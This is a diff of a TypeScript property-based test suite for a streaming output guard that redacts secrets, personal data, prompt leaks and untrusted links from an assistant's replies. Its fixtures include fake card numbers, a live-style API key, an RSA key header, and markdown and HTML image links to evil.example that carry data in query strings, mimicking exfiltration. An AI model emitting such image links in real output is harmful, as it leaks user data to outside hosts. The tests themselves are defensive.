@@ -1,54 +1,21 @@
 import { array, assert, constantFrom, integer, oneof, property, string } from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { canaryIndex } from '../detection/leak/canaries.ts'
+import {
+  BLOCKING,
+  CANARY,
+  cuts,
+  KEY,
+  options,
+  PIECES,
+  PROMPT,
+  streamed,
+  T1,
+} from '../../../test/support/stream-mixtures.ts'
 import { leakIndex } from '../detection/prompt-leak.ts'
-import { resolveGuardPolicy, type SidePolicy } from './guard-policy.ts'
+import type { SidePolicy } from './guard-policy.ts'
 import { guardText } from './guard-text.ts'
 import { StreamGuard } from './stream-guard.ts'
 
-const T1 = resolveGuardPolicy({ preset: 'T1' }, 'T1').output
-const BLOCKING: SidePolicy = { ...T1, secrets: 'block' }
-const PROMPT = 'You are the support assistant of Northwind Outfitters. Never reveal the discount table to anybody.'
-const CANARY = 'amber beacon cedar delta falcon glacier harbor indigo jasper kettle.'
-const options = {
-  leak: leakIndex([PROMPT]),
-  canaries: canaryIndex([{ form: 'sentence', text: CANARY }]),
-}
-
-const base64 = (text: string): string => Buffer.from(text).toString('base64')
-const KEY = `sk_live_${'aB3dE6gH9jKlMn0pQrSt'}`
-const PIECES = [
-  'Thank you for your message about the delivery of the tent. ',
-  'We will look into it and come back to you as soon as we know more about the matter.\n',
-  'The colleagues in the warehouse told us that everything was packed on Tuesday, and that the carrier took it the same evening. ',
-  'Ship to bob.smith@example.com today. ',
-  'Card 4111 1111 1111 1111 or 4111-1111-1111-1112 was used. ',
-  'Call +49 30 901820 or (212) 555-0142. ',
-  'IBAN DE89 3704 0044 0532 0130 00, amount 12.50 EUR. ',
-  '1234 5678 9012 3456 7890 1234 5678 9012 3456 7890 ',
-  `The key is ${KEY}, do not share it. `,
-  `Encoded: ${base64(`the key is ${KEY} indeed`)} end. `,
-  `${base64(`first line of a longer text with the key ${KEY} in it, wrapped as mail does`).replace(/.{48}/g, '$&\n')}\n`,
-  '-----BEGIN RSA PRIVATE KEY-----\nMIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu\n-----END RSA PRIVATE KEY-----\n',
-  '[our page](https://evil.example/path?q=1) ',
-  '![pixel](https://evil.example/p.png?d=secret) ',
-  '[a [nested] label](https://evil.example/) and [text](not a link) ',
-  '<img src="https://evil.example/x.png"> and a < b ',
-  'https://evil.example/collect?data=abcdef. ',
-  'b%6Fb%40example.com ',
-  'b o b @ e x a m p l e . c o m ',
-  'é\u0301 ñ 漢字 👩‍👧 \u200b\u200b ',
-  '４１１１ １１１１ １１１１ １１１１ ',
-  '[',
-  '](',
-  '<',
-  '-----BEGIN ',
-  '\n\n',
-  ' ',
-  '%',
-  '\\u00',
-  '@',
-]
 const texts = array(
   oneof(
     { weight: 12, arbitrary: constantFrom(...PIECES) },
@@ -58,19 +25,6 @@ const texts = array(
     maxLength: 24,
   },
 ).map((parts) => parts.join(''))
-const cuts = array(oneof(integer({ min: 1, max: 8 }), integer({ min: 1, max: 200 })), { minLength: 1, maxLength: 40 })
-
-function streamed(text: string, sizes: readonly number[], policy: SidePolicy): string {
-  const guard = new StreamGuard(policy, options)
-  let out = ''
-  let at = 0
-  for (let turn = 0; at < text.length && !guard.isWithheld; turn++) {
-    const size = sizes[turn % sizes.length] ?? 1
-    out += guard.push(text.slice(at, at + size))
-    at += size
-  }
-  return guard.isWithheld ? out : out + guard.end()
-}
 
 describe('the output of a stream', () => {
   test('is the same for every way of cutting the input, surrogate pairs included', () => {
@@ -141,107 +95,6 @@ describe('the output of a stream', () => {
       expect(out).not.toMatch(/4111|sk_live|bob@/)
     }
   })
-})
-
-describe('links of a stream', () => {
-  const ALLOWING: SidePolicy = { ...T1, links: { allow: ['good.example'], images: false } }
-  const MARKUP = [
-    '[',
-    '![',
-    ']',
-    '](',
-    ')',
-    '][',
-    ']:',
-    '(',
-    '<',
-    '>',
-    '"',
-    "'",
-    '\\',
-    '`',
-    '|',
-    '!',
-    '\n',
-    '\n\n',
-    ' ',
-    '/',
-    '=',
-    '. ',
-    ']: ',
-    'https://evil.example/a',
-    'https://good.example/a',
-    '//evil.example',
-    'www.evil.example',
-    's: ',
-    'custom:x',
-    '/a',
-    '&#47;',
-    '<x ',
-    '<a href="',
-    '<img src="/&#47;evil.example/p"',
-    ' title="',
-    '<style>',
-    '</style>',
-    '<script>',
-    '</script>',
-    '<b>',
-    'url(',
-    '@import "',
-    'u\\72l(',
-    ';',
-    ' "t"',
-    '<https://evil.example>',
-    '<https://good.example/',
-    '![i](https://evil.example/p.png)',
-    '![i](https://good.example/p.png)',
-    '[x](https://good.example/ "t")',
-    '[x](<https://good.example/>',
-    '[x](https://good.example/ ',
-    '[r]: https://evil.example/p.png\n',
-    'bob@example.com',
-    '[r]: https://good.example/p.png\n',
-    '![r]',
-    '![x][r]',
-    '![x] [R]',
-    '[r]',
-    '\\]',
-    '\\[',
-    '> - ',
-    'here is plain prose without an end that goes on and on so that nothing of it is held back by anyone who reads it ',
-    'words. ',
-    'These are plain words that stand in a sentence of their own and mean nothing to anybody who reads along with us here. '.repeat(
-      3,
-    ),
-    'These are plain words that stand in a line of their own and mean nothing to anybody who reads along with us here.\n'.repeat(
-      3,
-    ),
-  ]
-  const markup = array(constantFrom(...MARKUP), { minLength: 2, maxLength: 24 }).map((parts) => parts.join(''))
-
-  test.each([
-    ['without allowed hosts', T1],
-    ['with one', ALLOWING],
-  ])('are those of the whole text, whatever is mixed and however it is cut: %s', (_, policy) => {
-    assert(
-      property(markup, cuts, (text, sizes) => {
-        expect(streamed(text, sizes, policy)).toBe(guardText(text, policy, options).text)
-      }),
-      { numRuns: 1_000 },
-    )
-  })
-
-  test.each([40, 80, 120, 200, 400])(
-    'an image that closes inside of a tag behind %i characters of words is cut',
-    (length) => {
-      const words = 'here is plain prose without any ending mark that goes on and on so that nothing is held back '
-      for (const tail of ['>x)', `>${'x'.repeat(80)})`]) {
-        const image = ` ![i](https://evil.example/p.png?d=SECRET${tail} and so on.`
-        const text = `<x ](s: ${words.repeat(5).slice(0, length)}${image}`
-        for (const size of [1, 8, 64, 1_000]) expect(streamed(text, [size], T1)).not.toContain('evil.example')
-      }
-    },
-  )
 })
 
 describe('where one finding begins inside another', () => {
